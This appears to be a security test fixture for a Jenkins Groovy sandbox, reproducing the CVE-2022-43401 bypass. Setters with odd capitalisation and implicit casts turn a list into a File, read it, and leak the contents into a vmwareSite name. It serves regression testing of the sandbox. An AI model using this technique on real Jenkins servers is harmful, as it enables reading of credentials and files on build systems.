// class: property
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (setters with unusual capitalisation)
// expect: read
class T {
    String aProp
    def setAProp(List p) { this.aProp = 'unused' }
    def setaProp(File p) { this.aProp = p.text }
}
def t = new T()
t.aProp = ['@CANARY_READ@']
vmwareSite("leak-${t.aProp}") { network 'VM Network' }
